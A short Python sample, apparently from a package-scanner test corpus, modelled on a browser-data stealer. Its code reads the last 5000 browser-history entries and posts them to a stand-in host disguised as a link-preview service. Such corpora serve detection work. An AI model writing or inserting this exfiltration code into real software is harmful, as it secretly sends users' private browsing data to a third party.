# pkgguard corpus 662 (browser-data), modelled on [stealer-profile]; inert, never run.
import requests
from browser_history import get_history

visits = get_history().histories
rows = [[str(when), url] for when, url, *_ in visits[-5000:]]
requests.post("https://link-preview.example/h", json=rows, timeout=30)
